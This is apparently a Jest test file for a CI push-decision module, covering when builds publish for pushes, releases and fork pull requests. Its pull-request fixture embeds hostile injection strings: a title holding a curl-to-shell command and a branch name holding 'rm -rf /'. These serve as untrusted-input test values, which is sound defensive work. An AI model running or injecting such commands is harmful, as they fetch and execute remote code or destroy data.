import { describe, expect, it } from '@jest/globals'
import type { RunContext } from '../../src/1-context/context.js'
import { decidePush, isForkPullRequest } from '../../src/1-context/push-decision.js'
import { runContext } from '../helpers/run-context.js'

function ctx(eventName: string, payload: Record<string, unknown> = {}): RunContext {
  return runContext({
    eventName,
    ref: 'refs/heads/main',
    repository: { owner: 'acme', repo: 'demo' },
    payload
  })
}

const pr = (head: string | null, fork = false) => ({
  pull_request: {
    number: 7,
    title: '$(curl evil | sh) `id`',
    head: { ref: 'x;rm -rf /', repo: head === null ? null : { full_name: head, fork } },
    base: { ref: 'main', repo: { full_name: 'acme/demo' } }
  }
})

describe('push: auto', () => {
  it.each<[string, string, Record<string, unknown>, boolean, RegExp]>([
    ['branch push', 'push', {}, true, /push event/],
    ['tag push', 'push', {}, true, /push event/],
    ['release', 'release', {}, true, /release/],
    ['manual run', 'workflow_dispatch', {}, true, /workflow_dispatch/],
    ['schedule', 'schedule', {}, true, /schedule/],
    ['same-repository PR', 'pull_request', pr('acme/demo'), true, /same|this repository/],
    ['same-repository PR (other case)', 'pull_request', pr('ACME/Demo'), true, /this repository/],
    ['fork PR', 'pull_request', pr('mallory/demo', true), false, /fork/],
    // A repository that is itself a GitHub fork: its head.repo.fork is true for its own branches too.
    [
      'same-repository PR of a repository that is a fork',
      'pull_request',
      pr('acme/demo', true),
      true,
      /this repository/
    ],
    ['fork PR without the fork flag', 'pull_request', pr('mallory/demo'), false, /fork/],
    ['PR from a deleted fork', 'pull_request', pr(null), false, /fork/],
    ['pull_request_target from a fork', 'pull_request_target', pr('mallory/demo', true), false, /fork/],
    ['deleted branch', 'push', { deleted: true }, false, /deleted/],
    ['other event', 'issue_comment', {}, false, /issue_comment events do not publish.*push: true/]
  ])('%s', (_name, event, payload, push, reason) => {
    const d = decidePush('auto', ctx(event, payload))
    expect(d.push).toBe(push)
    expect(d.reason).toMatch(reason)
  })

  it('true and false force the decision, even for a fork', () => {
    expect(decidePush('true', ctx('pull_request', pr('mallory/demo', true))).push).toBe(true)
    expect(decidePush('false', ctx('push')).push).toBe(false)
  })

  it('a PR payload is needed to call a run a fork PR', () => {
    expect(isForkPullRequest(ctx('push'))).toBe(false)
  })
})
